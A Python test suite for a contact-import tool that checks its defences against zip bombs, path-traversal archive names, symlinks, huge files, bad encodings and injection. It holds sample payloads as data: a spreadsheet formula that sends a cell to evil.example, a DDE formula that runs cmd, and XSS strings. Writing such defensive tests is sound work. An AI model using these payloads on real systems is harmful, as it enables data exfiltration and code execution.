"""Hostile input (issue 6): bombs, traversal, symlinks, huge files, odd encodings, injection.

Each case goes through :func:`havewemet.importers.read_source` or the CLI and ends
in a clear ``Error:`` line naming the file (exit code 1) or a safe import, never
a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import stat
import struct
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from havewemet.cli.app import app
from havewemet.errors import InputError, UnsafeArchiveError
from havewemet.importers import ImportOptions, _io, read_source

runner = CliRunner()

CONN_HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
ADA = (
    "Ada,Lovelace,https://www.linkedin.com/in/ada-l,ada@example.org,Analytical,Eng,09 Sep 2022\r\n"
)
INV_HEADER = "From,To,Sent At,Message,Direction,inviterProfileUrl,inviteeProfileUrl\r\n"


def _csv_line(*cells: str) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(cells)
    return buf.getvalue()


def _export(folder: Path, files: dict[str, str | bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        data = content if isinstance(content, bytes) else b"\xef\xbb\xbf" + content.encode()
        (folder / name).write_bytes(data)
    return folder


def _cli(db: Path, *args: str):
    result = runner.invoke(app, ["--db", str(db), *args])
    assert "Traceback" not in result.output
    assert not isinstance(result.exception, Exception) or isinstance(
        result.exception, SystemExit
    ), repr(result.exception)
    return result


# -- archives ---------------------------------------------------------------------------


def test_zip_bomb_is_refused_by_ratio_before_anything_is_extracted(tmp_path, monkeypatch):
    bomb = tmp_path / "Basic_LinkedInDataExport_03-01-2026.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("Connections.csv", b"\x00" * (50 * 1024**2))
    info = zipfile.ZipFile(bomb).getinfo("Connections.csv")
    ratio = info.file_size // info.compress_size
    assert ratio > 500  # a real high-ratio zip
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: opened.append(a) or 1 / 0)
    result = _cli(tmp_path / "s.db", "import", str(bomb))
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"Error: {bomb}: entry 'Connections.csv' expands {ratio} times its size. Refused as "
        "a likely zip bomb; unzip it yourself if you trust it"
    )
    assert opened == []


def _forge_sizes(path: Path, size: int) -> None:
    """Rewrite every central-directory entry to declare ``size`` uncompressed bytes."""
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at != -1:
        struct.pack_into("<I", data, at + 24, size)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def test_zip_declaring_more_than_the_total_limit_is_refused(tmp_path):
    bomb = tmp_path / "export.zip"
    with zipfile.ZipFile(bomb, "w") as zf:
        for i in range(17):
            zf.writestr(f"part{i}/Connections.csv", CONN_HEADER + ADA)
    _forge_sizes(bomb, 0xFFFFFFF0)  # 17 x 4 GiB > the 64 GiB total
    with pytest.raises(UnsafeArchiveError) as e:
        read_source(bomb, format="linkedin")
    assert str(e.value) == (
        f"{bomb}: would expand to 68.0 GiB. Refused as a likely zip bomb; unzip it "
        "yourself if you trust it"
    )


def test_zip_member_larger_than_declared_is_refused(tmp_path):
    z = tmp_path / "export.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("Connections.csv", CONN_HEADER + ADA * 50)
    _forge_sizes(z, 20)
    with pytest.raises(InputError) as e:
        read_source(z, format="linkedin")
    assert str(e.value).startswith(f"{z.name}:Connections.csv: ")


@pytest.mark.parametrize(
    "name",
    [
        "../../x.csv",
        "a/../../Connections.csv",
        "/etc/Connections.csv",
        "C:\\Users\\x\\Connections.csv",
        "..\\..\\Connections.csv",
    ],
)
def test_zip_with_escaping_names_is_refused(tmp_path, name):
    z = tmp_path / "sub" / "export.zip"
    z.parent.mkdir()
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("Connections.csv", CONN_HEADER + ADA)
        zf.writestr(zipfile.ZipInfo(name), CONN_HEADER + ADA)
    result = _cli(tmp_path / "s.db", "import", str(z), "--format", "linkedin")
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"Error: {z}: holds an entry that escapes the archive ({name!r}). This is not a "
        "genuine export; do not import it"
    )
    assert sorted(p.name for p in (tmp_path / "sub").rglob("*")) == ["export.zip"]
    assert not (tmp_path / "x.csv").exists() and not (tmp_path.parent / "x.csv").exists()


def test_symlinks_in_a_zip_are_skipped(tmp_path):
    z = tmp_path / "export.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("Connections.csv", CONN_HEADER + ADA)
        link = zipfile.ZipInfo("Invitations.csv")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, "/etc/passwd")
    batch = read_source(z, format="linkedin")
    assert [i.name for i in batch.identities] == ["Ada Lovelace"]
    assert [f.file for f in batch.files] == ["Connections.csv"]


def test_symlinks_in_a_folder_are_not_followed(tmp_path):
    secret = _export(
        tmp_path / "elsewhere",
        {
            "Invitations.csv": INV_HEADER
            + _csv_line("Eve Secret", "Me", "3/1/23, 9:15 AM", "", "INCOMING", "", ""),
            "Connections.csv": CONN_HEADER + ADA.replace("Ada,Lovelace", "Eve,Secret"),
        },
    )
    export = _export(tmp_path / "export", {"Connections.csv": CONN_HEADER + ADA})
    (export / "Invitations.csv").symlink_to(secret / "Invitations.csv")
    (export / "more").symlink_to(secret, target_is_directory=True)
    (export / "loop").symlink_to(export, target_is_directory=True)
    batch = read_source(export, format="linkedin")
    assert [i.name for i in batch.identities] == ["Ada Lovelace"]
    assert batch.requests == []


def test_damaged_zip_is_a_clear_error(tmp_path):
    z = tmp_path / "Basic_LinkedInDataExport_03-01-2026.zip"
    good = io.BytesIO()
    with zipfile.ZipFile(good, "w") as zf:
        zf.writestr("Connections.csv", CONN_HEADER + ADA)
    z.write_bytes(good.getvalue()[:40])
    result = _cli(tmp_path / "s.db", "import", str(z))
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {z}: is not a readable zip archive")


# -- huge files -------------------------------------------------------------------------

RSS_CHILD = textwrap.dedent(
    """
    import resource, sys
    from havewemet.cli.app import app
    try:
        app(sys.argv[1:], prog_name="havewemet")
    finally:
        kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        sys.stderr.write(f"\\nmaxrss_kb={kb}\\n")
    """
)


def _sparse_csv(path: Path, header: str, size: int) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as fh:
        fh.write(header.encode())
        fh.truncate(size)
    return path


def test_a_2gb_csv_is_refused_with_bounded_memory(tmp_path):
    big = _sparse_csv(tmp_path / "export" / "Connections.csv", CONN_HEADER, 2 * 1024**3)
    script = tmp_path / "child.py"
    script.write_text(RSS_CHILD)
    proc = subprocess.run(
        [sys.executable, str(script), "--db", str(tmp_path / "s.db"), "import", str(big.parent)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1
    lines = proc.stderr.strip().splitlines()
    assert lines[0] == (
        "Error: export/Connections.csv: is 2,048 MiB; havewemet reads at most 512 MiB from "
        "one file. Check that it is the right file, or split it into smaller files with the "
        "header row repeated in each"
    )
    rss_mb = int(lines[-1].split("=")[1]) / 1024
    # Reading the file would take over 2 GB; the process alone is ~140 MB, up to ~300
    # when the suite loads the machine. The bound proves the file was never read.
    assert rss_mb < 512, f"peak RSS {rss_mb:.0f} MB"


@pytest.mark.parametrize(
    ("name", "fmt", "header"),
    [
        ("contacts.csv", "google-csv", "Name,Given Name,E-mail 1 - Value\n"),
        ("attendees.csv", "people-list", "Full Name,Email\n"),
        ("calendar.ics", "ical", "BEGIN:VCALENDAR\r\n"),
        ("contacts.vcf", "vcard", "BEGIN:VCARD\r\n"),
        ("your_friends.json", "facebook-json", '{"friends_v2": ['),
        ("following_accounts.csv", "mastodon-csv", "Account address,Show boosts\n"),
    ],
)
def test_every_whole_file_reader_refuses_a_file_over_the_limit(
    tmp_path, name, fmt, header, monkeypatch
):
    monkeypatch.setattr(_io, "MAX_FILE_BYTES", 1024**2)
    big = _sparse_csv(tmp_path / name, header, 3 * 1024**2)
    with pytest.raises(InputError, match=r"is 3 MiB; havewemet reads at most 1 MiB"):
        read_source(big, format=fmt)


def test_a_zip_member_over_the_limit_is_refused_before_reading(tmp_path, monkeypatch):
    monkeypatch.setattr(_io, "MAX_FILE_BYTES", 1024**2)
    z = tmp_path / "export.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "Connections.csv",
            (CONN_HEADER + ADA * 40_000).encode(),
            compress_type=zipfile.ZIP_STORED,
        )
    with pytest.raises(InputError) as e:
        read_source(z, format="linkedin")
    assert str(e.value).startswith("export.zip:Connections.csv: is 3 MiB; havewemet reads")


def test_a_100000_character_field_imports(tmp_path):
    long = "A" * 100_000
    export = _export(
        tmp_path / "e", {"Connections.csv": CONN_HEADER + ADA.replace("Analytical", long)}
    )
    batch = read_source(export, format="linkedin")
    assert batch.identities[0].company == long


def test_a_field_past_the_csv_limit_is_an_error_with_its_line(tmp_path):
    huge = "B" * (17 * 1024 * 1024)
    export = _export(
        tmp_path / "e",
        {"Connections.csv": CONN_HEADER + ADA + ADA.replace("Analytical", f'"{huge}"')},
    )
    with pytest.raises(InputError) as e:
        read_source(export, format="linkedin")
    assert str(e.value).startswith("e/Connections.csv, line 3: is not valid CSV (field larger")


# -- encodings, line endings, NUL bytes ------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_csv_with_bom_imports(tmp_path, encoding):
    text = CONN_HEADER + ADA.replace("Ada", "Zoë")
    data = text.encode(encoding)
    if encoding != "utf-16":
        data = ("\ufeff" + text).encode(encoding)
    export = _export(tmp_path / "e", {"Connections.csv": data})
    batch = read_source(export, format="linkedin")
    assert [(i.name, i.emails) for i in batch.identities] == [("Zoë Lovelace", ["ada@example.org"])]


def test_latin1_csv_is_an_error_naming_file_line_and_fix(tmp_path):
    data = (CONN_HEADER + ADA + ADA.replace("Ada", "Zoë")).encode("latin-1")
    export = _export(tmp_path / "e", {"Connections.csv": data})
    result = _cli(tmp_path / "s.db", "import", str(export))
    assert result.exit_code == 1
    assert result.output.strip() == (
        "Error: e/Connections.csv, line 3: is not UTF-8 text (byte 0xeb at line 3). Save it "
        "as UTF-8 (or export it again from the service) and re-run the import"
    )


def test_latin1_google_csv_is_an_error_naming_the_line(tmp_path):
    p = tmp_path / "contacts.csv"
    p.write_bytes(
        "Name,Given Name,Family Name,E-mail 1 - Value\nZoë Ng,Zoë,Ng,z@example.org\n".encode(
            "cp1252"
        )
    )
    with pytest.raises(InputError) as e:
        read_source(p, format="google-csv")
    assert str(e.value) == (
        f"{p}, line 2: is not UTF-8 text (byte 0xeb at line 2). Save it as UTF-8 (or export "
        "it again from the service) and re-run the import"
    )


def test_mixed_line_endings_import_every_row_with_its_line(tmp_path):
    text = (
        CONN_HEADER
        + ADA
        + "Bob,Stone,,,Acme,X,01 Jan 2020\n"
        + "Cy,Ng,,,Co,Y,02 Jan 2020\r"
        + "Di,Ho,,,Co,Z,03 Jan 2020\r\n"
    )
    export = _export(tmp_path / "e", {"Connections.csv": text})
    batch = read_source(export, format="linkedin")
    assert [(i.name, i.line) for i in batch.identities] == [
        ("Ada Lovelace", 2),
        ("Bob Stone", 3),
        ("Cy Ng", 4),
        ("Di Ho", 5),
    ]


def test_nul_bytes_are_an_error_naming_the_line(tmp_path):
    export = _export(
        tmp_path / "e",
        {"Connections.csv": CONN_HEADER + ADA + ADA.replace("Analytical", "Ana\x00lytical")},
    )
    result = _cli(tmp_path / "s.db", "import", str(export))
    assert result.exit_code == 1
    assert result.output.strip() == (
        "Error: e/Connections.csv, line 3: holds NUL bytes, so it is binary or damaged, not "
        "a text export. Check that it is the right file, or export it again"
    )


def test_vcard_with_a_backtracking_line_is_refused_fast(tmp_path):
    """A fuzz finding: vobject's line regex took minutes on this 5 KB card."""
    p = tmp_path / "contacts.vcf"
    p.write_text(
        "BEGIN:VCARD\r\nVERSION:2.1\r\nN:Ng;Cy;;;\r\nTEL;CEC3"
        + "=91=20=C3" * 40
        + "\r\nEND:VCARD\r\n"
    )
    start = time.monotonic()
    with pytest.raises(InputError) as e:
        read_source(p, format="vcard")
    assert time.monotonic() - start < 30  # a hang guard: it took minutes before the fix
    assert str(e.value).startswith(
        f"{p}, line 1: the vCard that begins here cannot be read (malformed line 'TEL;CEC3=91=20=C3"
    )


# -- malformed values: a safe import ----------------------------------------------------


def test_malformed_dates_and_emails_import_without_them(tmp_path):
    text = (
        CONN_HEADER
        + "Ada,Lovelace,https://www.linkedin.com/in/ada-l,not-an-email@@,Co,Eng,31 Feb 2022\r\n"
        + "Bob,Stone,,<script>@x,Co,Eng,yesterday\r\n"
        + "Cy,Ng,,cy@example.org,Co,Eng,99/99/99\r\n"
    )
    export = _export(tmp_path / "e", {"Connections.csv": text})
    batch = read_source(export, format="linkedin")
    assert [(i.name, i.emails) for i in batch.identities] == [
        ("Ada Lovelace", []),
        ("Bob Stone", []),
        ("Cy Ng", ["cy@example.org"]),
    ]
    assert [x.at for x in batch.interactions] == [None, None, None]


# -- what the tool writes: markup, HTML and formulas stay text --------------------------

MALLORY = "[bold red]Mallory[/bold red] <script>alert(1)</script>"
NOTE = (
    '[link=http://evil.example]x[/link] =HYPERLINK("http://evil.example/?q="&A1,"Go") '
    "<img src=x onerror=alert(1)>"
)


@pytest.fixture
def hostile_store(tmp_path) -> Path:
    export = _export(
        tmp_path / "export",
        {
            "Connections.csv": CONN_HEADER + ADA,
            "Invitations.csv": INV_HEADER
            + _csv_line(
                MALLORY,
                "Ruth Calloway",
                "3/1/23, 9:15 AM",
                NOTE,
                "INCOMING",
                "https://www.linkedin.com/in/mallory-x",
                "",
            ),
        },
    )
    db = tmp_path / "s.db"
    result = _cli(db, "import", str(export))
    assert result.exit_code == 0, result.output
    return db


def test_rich_markup_in_a_requester_name_prints_literally_in_inbox(hostile_store):
    result = _cli(hostile_store, "inbox", "--verbose")
    assert result.exit_code == 0, result.output
    assert MALLORY in result.output
    assert "[link=http://evil.example]x[/link]" in " ".join(result.output.split())


def test_json_output_stays_json_with_hostile_text(hostile_store):
    result = _cli(hostile_store, "inbox", "--json")
    assert result.exit_code == 0
    data = json.loads(result.output)
    assert [r["name"] for r in data] == [MALLORY]
    assert data[0]["note"] == NOTE


def test_decisions_csv_neutralises_formulas(hostile_store, tmp_path):
    result = _cli(hostile_store, "decide", "mallory-x", "report", "--reason", "=cmd|' /C calc'!A0")
    assert result.exit_code == 0, result.output
    assert MALLORY in result.output
    out = tmp_path / "decisions.csv"
    assert _cli(hostile_store, "decisions", "export", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    js = tmp_path / "decisions.json"
    assert _cli(hostile_store, "decisions", "export", str(js)).exit_code == 0
    assert json.loads(js.read_text())[0]["reason"] == "=cmd|' /C calc'!A0"


def test_the_web_page_escapes_names_and_notes(hostile_store):
    pytest.importorskip("fastapi")
    result = _cli(hostile_store, "serve", "--get", "/")
    assert result.exit_code == 0, result.output
    assert "<script>alert(1)</script>" not in result.output
    assert "<img src=x" not in result.output
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.output
    result = _cli(hostile_store, "serve", "--get", "/.json")
    assert result.exit_code == 0, result.output
    assert MALLORY in result.output  # JSON holds the text as written
    json.loads(result.output)


def test_file_names_with_markup_print_literally(tmp_path):
    export = _export(tmp_path / "[red]x[/red]", {"Connections.csv": CONN_HEADER + ADA})
    result = _cli(tmp_path / "s.db", "import", str(export))
    assert result.exit_code == 0, result.output
    assert "[red]x[/red]" in result.output.replace("\n", "")


def test_calendar_event_repeating_every_minute_is_skipped_fast(tmp_path):
    """A fuzz finding: one MINUTELY rule expanded to millions of occurrences (a hang)."""
    p = tmp_path / "cal.ics"
    p.write_text(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//EN\r\nBEGIN:VEVENT\r\nUID:spam@x\r\n"
        "DTSTART:20200101T000000Z\r\nSUMMARY:spam\r\nORGANIZER:mailto:me@example.org\r\n"
        "ATTENDEE;CN=Eve;PARTSTAT=ACCEPTED:mailto:eve@example.org\r\nRRULE:FREQ=MINUTELY\r\n"
        "END:VEVENT\r\nBEGIN:VEVENT\r\nUID:ok@x\r\nDTSTART:20230301T090000Z\r\nSUMMARY:Coffee"
        "\r\nORGANIZER:mailto:me@example.org\r\nATTENDEE;CN=Ada;PARTSTAT=ACCEPTED:mailto:"
        "ada@example.org\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    start = time.monotonic()
    batch = read_source(p, format="ical", options=ImportOptions(me_emails=["me@example.org"]))
    assert time.monotonic() - start < 60  # a hang guard: it never ended before the fix
    by_key = {i.key: i.emails for i in batch.identities}
    assert [by_key[x.identity_key] for x in batch.interactions] == [["ada@example.org"]]
    assert any("event 'spam@x' repeats too often to read" in w for w in batch.warnings)


def test_vcard_charset_with_a_nul_is_no_crash(tmp_path):
    """A fuzz finding: ``CHARSET=UTF\\x00-8`` raised ValueError from the codec lookup."""
    p = tmp_path / "contacts.vcf"
    # In UTF-16 (a BOM), where NUL characters are not refused up front.
    text = (
        "\ufeffBEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=UTF\x00-8;ENCODING=QUOTED-PRINTABLE:"
        "Ng;=41da;;;\r\nFN:Ada Ng\r\nEND:VCARD\r\n"
    )
    p.write_bytes(text.encode("utf-16-le"))
    try:
        batch = read_source(p, format="vcard")
    except InputError as e:
        assert str(e).startswith(str(p))
    else:
        assert [i.name for i in batch.identities] == ["Ada Ng"]


@pytest.mark.parametrize(
    "data",
    ["a,b\nc\x00d\n".encode("utf-16"), b"a,b\n\xe9\x00\n"],
    ids=["utf-16", "cp1252-fallback"],
)
def test_nul_bytes_are_refused_in_every_encoding(data):
    from havewemet.importers._io import decode_text

    with pytest.raises(InputError) as e:
        decode_text(data, "f.csv", fallback="cp1252")
    assert str(e.value).startswith("f.csv, line 2: holds NUL bytes")


@pytest.mark.parametrize("end", ["\n", "\r\n", ""])
def test_a_csv_cut_inside_a_quoted_cell_is_refused_not_swallowed(tmp_path, end):
    # csv.reader takes the rest of such a file as one cell: "Bob" would be imported
    # with his surname, URL and the lines after it in one field.
    path = tmp_path / "Connections.csv"
    path.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        'Anna,Smith,https://www.linkedin.com/in/anna,,"Acme, Inc",Lead,12 Jan 2024\n'
        f'Bob,"Unclosed,https://www.linkedin.com/in/bob,,,,12 Jan 2024{end}',
        encoding="utf-8",
    )
    with pytest.raises(InputError) as err:
        read_source(path)
    assert err.value.line == 3
    assert "ends inside a quoted cell" in str(err.value) and "Export it again" in str(err.value)
    path.write_text(  # a quoted cell with a line break in the last row is fine
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        f'Bob,"Lee",https://www.linkedin.com/in/bob,,"Acme\nLtd",Lead,12 Jan 2024{end}',
        encoding="utf-8",
    )
    assert [i.name for i in read_source(path).identities] == ["Bob Lee"]


def test_an_emoji_code_in_a_name_is_shown_as_written(tmp_path):
    """Rich turns ``:thumbs_up:`` into an emoji unless told not to: a requester's name
    is shown as they wrote it, not as the terminal's own decoration."""
    result = _cli(tmp_path / "s.db", "check", "Ann :thumbs_up: Lee", "--no-save")
    assert result.exit_code == 0
    assert "IGNORE  Ann :thumbs_up: Lee  stranger" in result.output
    assert "\N{THUMBS UP SIGN}" not in result.output
